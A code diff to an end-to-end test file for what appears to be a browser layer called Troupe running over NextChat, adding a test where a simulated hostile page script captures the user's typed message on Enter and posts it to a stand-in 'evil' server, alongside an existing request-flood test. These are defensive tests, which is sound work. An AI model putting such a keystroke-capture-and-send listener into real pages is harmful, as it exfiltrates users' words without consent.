@@ -4,7 +4,7 @@
  */
 import { describe, expect, it } from 'vitest';
 import type { Page } from 'playwright-core';
-import { NC, chatBodyOf, echoReply, lastUserText, readSentByPage, startNewChat, startStage, typeAndSend, waitForSettledChat, type Launched, type Stage, type TestLlm } from '../harness/index.ts';
+import { NC, chatBodyOf, echoReply, lastUserText, readSentByPage, startNewChat, startStage, startTestLlm, typeAndSend, waitForSettledChat, type Launched, type Stage, type TestLlm } from '../harness/index.ts';
 import { activate, createCharacter, eventually, isUserTurn, openPanel, openSection, openWithCharacter, panelBody, panelToggle, readChatLog } from './troupe-page.ts';
 import { stageSession } from './stage-session.ts';
 
@@ -157,23 +157,50 @@ function pageFlood([text, count]: readonly [string, number]): Promise<number> {
 }
 
 /**
- * Makes the person's next Enter in NextChat's input set off `count` requests of the page's own first
- * (a window capture listener runs before Troupe's and NextChat's).
+ * Makes the person's next Enter in NextChat's input set off `count` requests of the page's own to
+ * `url` first (a window capture listener runs before Troupe's and NextChat's), for `text`, or for
+ * what the person typed when `text` is empty.
  */
-function armFloodOnEnter([text, count]: readonly [string, number]): void {
+function armRequestsOnEnter([url, text, count]: readonly [string, string, number]): void {
   const controller = new AbortController();
   window.addEventListener('keydown', (event) => {
-    if (event.key !== 'Enter' || (event.target as Element | null)?.id !== 'chat-input') return;
+    const input = event.target as HTMLTextAreaElement | null;
+    if (event.key !== 'Enter' || input?.id !== 'chat-input') return;
     controller.abort();
     for (let i = 0; i < count; i++) {
-      void fetch('/api/openai/v1/chat/completions', {
+      void fetch(url, {
         method: 'POST',
         headers: { 'content-type': 'application/json' },
-        body: JSON.stringify({ model: 'gpt-4o-mini', stream: true, messages: [{ role: 'user', content: text }] }),
+        body: JSON.stringify({ model: 'gpt-4o-mini', stream: true, messages: [{ role: 'user', content: text || input.value }] }),
       }).then((response) => response.text());
     }
   }, { capture: true, signal: controller.signal });
 }
+
+/** The person types `text` in NextChat's input and presses Enter. */
+async function typeAndEnter(target: Page, text: string): Promise<void> {
+  await target.locator(NC.input).click();
+  await target.keyboard.type(text);
+  await target.keyboard.press('Enter');
+}
+
+describe('a script in NextChat\'s page that sends the person\'s words elsewhere', () => {
+  it('gets no character there and does not spoil the person\'s own turn', async () => {
+    const evil = await startTestLlm();
+    try {
+      await openWithCharacter(page, stage.url, 'Mira', 'A cartographer.');
+      await page.evaluate(armRequestsOnEnter, [`${evil.url}/v1/chat/completions`, '', 1] as const);
+      await typeAndEnter(page, 'Meet me at the harbour');
+      const stolen = await evil.waitForRequest(isUserTurn('Meet me at the harbour'));
+      const own = await llm.waitForRequest(isUserTurn('Meet me at the harbour'));
+      expect(stolen.rawBody).not.toContain('Mira');
+      expect(own.rawBody).toContain("Mira's next reply");
+      await expect.poll(() => panelBody(page).textContent()).toContain('Last request sent as Mira');
+    } finally {
+      await evil.close();
+    }
+  });
+});
 
 describe('a script in NextChat\'s page that floods replies', () => {
   it('gets no reply stored: only the person\'s own turns are rewritten and remembered, one each', async () => {
@@ -188,10 +215,8 @@ describe('a script in NextChat\'s page that floods replies', () => {
     // 30 requests of the page's own, for text the chat shows (a fake Retry), each answered with 1 MB.
     expect(await page.evaluate(pageFlood, ['Tell me more', FLOOD] as const)).toBeGreaterThan(FLOOD * MEGABYTE.length);
     // Then it rides on the person's next turn: on their Enter (its listener runs first) it sends 30 more.
-    await page.evaluate(armFloodOnEnter, ['Tell me more', FLOOD] as const);
-    await page.locator(NC.input).click();
-    await page.keyboard.type('And then?');
-    await page.keyboard.press('Enter');
+    await page.evaluate(armRequestsOnEnter, ['/api/openai/v1/chat/completions', 'Tell me more', FLOOD] as const);
+    await typeAndEnter(page, 'And then?');
     await llm.waitForRequest(isUserTurn('And then?'));
     await eventually(() => Promise.resolve(llm.requests.filter(isUserTurn('Tell me more')).length), (n) => n >= 1 + 2 * FLOOD);
     await page.locator('[class*="chat_chat-message-status__"]').waitFor({ state: 'detached' });
